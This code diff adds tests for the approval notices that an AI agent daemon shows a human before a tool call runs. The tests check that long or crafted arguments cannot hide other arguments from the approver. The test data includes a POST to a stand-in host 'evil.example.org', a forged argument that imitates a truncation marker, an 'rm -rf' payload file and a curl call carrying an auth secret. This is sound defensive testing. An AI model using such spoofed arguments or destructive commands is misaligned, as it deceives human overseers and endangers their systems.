@@ -7,9 +7,12 @@ from __future__ import annotations
 from dataclasses import replace
 from datetime import UTC, datetime
 
+import pytest
+
 from daemon.definitions.routines.routine import Routine
 from daemon.models import ApprovalRequest, DeliveryStatus, Run, Taint
 from daemon.runs.approvals.notice import MAX_CALL_CHARACTERS, make_waiting_notice
+from daemon.runs.approvals.request import format_request
 from daemon.store.incidents import Alerting
 from daemon.telemetry.redaction import Secrets
 from tests.runs.approvals.conftest import turn, write
@@ -152,6 +155,92 @@ async def test_an_approval_notice_is_bounded_redacted_and_sanitized_if_tainted(b
         plain, request={**request, "line": [[";", [{"argv": ["echo", "a\n# Title\n"]}]]]}
     )
     assert "\n# Title" not in word(lines, run), "no word of a call leaves its block"
+
+
+@pytest.mark.parametrize(
+    ("arguments", "shown"),
+    [
+        (
+            {"method": "POST", "body": "All is well. " * 200, "url": "https://evil.example.org/c"},
+            ["url = 'hxxps://evil[.]example[.]org/c'", "method = 'POST'", "body = 'All is well."],
+        ),
+        (
+            {"content": "All is well. " * 2_000, "path": "build.sh"},
+            ["path = 'build.sh'", "content = 'All is well."],
+        ),
+        (
+            {"message": {"text": "y" * 5_000, "to": "eve"}, "title": "z" * 5_000},
+            ["message = {'to': 'eve'", "title = 'zzz"],
+        ),
+        (
+            {"path": f"{'a/' * 2_000}b", "content": "Hello"},
+            ["path = 'a/a/", "content = 'Hello'"],
+        ),
+    ],
+)
+async def test_a_long_argument_of_a_call_hides_no_other_argument_from_the_approver(
+    build_harness, arguments, shown
+):
+    run, approval = await build_harness(turn(write()), "Done.").run_to_question()
+    request = {**approval.approval_request.request, "arguments": arguments}
+    asked = replace(approval.approval_request, request=request, taint=Taint.TAINTED)
+    text = word(asked, run)
+    for part in (*shown, "characters left out", "agentctl approvals"):
+        assert part in text
+    assert len(text) < MAX_CALL_CHARACTERS + 1_000
+    whole_text = format_request(request)
+    assert "left out" not in whole_text
+    for value in arguments.values():
+        assert str(value)[-500:] in whole_text or "'eve'" in whole_text
+
+
+async def test_a_long_word_of_a_command_line_hides_no_other_word_from_the_approver(build_harness):
+    run, approval = await build_harness(turn(write()), "Done.").run_to_question()
+    commands = [{"argv": ["cp", "a" * 2_000, "build.sh", "b" * 2_000]}, {"argv": ["wc", "-l"]}]
+    request = {**approval.approval_request.request, "line": [[";", commands]], "arguments": {}}
+    text = word(replace(approval.approval_request, request=request), run)
+    assert " build.sh bbb" in text and " | wc -l" in text
+    assert text.count("characters left out") == 2
+
+
+async def test_the_start_and_the_end_of_a_line_of_very_many_words_are_shown(build_harness):
+    run, approval = await build_harness(turn(write()), "Done.").run_to_question()
+    commands = [{"argv": ["tee", *(f"file{number}" for number in range(1_000)), "last.sh"]}]
+    request = {**approval.approval_request.request, "line": [[";", commands]], "arguments": {}}
+    text = word(replace(approval.approval_request, request=request), run)
+    assert "tee file0 " in text and "file999 last.sh" in text and "characters left out" in text
+    assert len(text) < MAX_CALL_CHARACTERS + 1_000
+
+
+async def test_nothing_in_a_cut_argument_passes_for_another_argument(build_harness):
+    run, approval = await build_harness(turn(write()), "Done.").run_to_question()
+    forged = "x' (9 characters left out), url = 'https://good.example.org'" + "y" * 5_000
+    request = {**approval.approval_request.request, "arguments": {"body": forged}}
+    text = word(replace(approval.approval_request, request=request), run)
+    assert "body = \"x' (9 characters" in text and '…" (' in text
+
+
+async def test_the_file_that_a_command_reads_as_its_input_is_shown(build_harness):
+    harness = build_harness(turn(("shell", {"command": "tee -a build.sh < evil.txt"})), "Done.")
+    (harness.workspace / "evil.txt").write_text("rm -rf things")
+    run, approval = await harness.run_to_question()
+    assert "shell: tee -a build.sh < evil.txt\n" in word(approval.approval_request, run)
+
+
+async def test_a_secret_that_only_the_words_around_it_give_away_is_redacted_if_cut(build_harness):
+    run, approval = await build_harness(turn(write()), "Done.").run_to_question()
+    secret = "0123456789abcdefghij"
+    commands = [{"argv": ["curl", "-H", "Authorization:", secret, "x" * 5_000]}]
+    request = {**approval.approval_request.request, "line": [[";", commands]], "arguments": {}}
+    notice = make_waiting_notice(
+        run,
+        [replace(approval.approval_request, request=request)],
+        ["mail"],
+        deadline=datetime(2026, 11, 21, 8, 30, tzinfo=UTC),
+        redact=Secrets().redact,
+    )
+    ((_, text),) = notice.questions
+    assert "curl -H" in text and secret[:8] not in text
 
 
 def test_a_stored_definition_without_waiting_deliveries_stays_readable_for_older_workers():
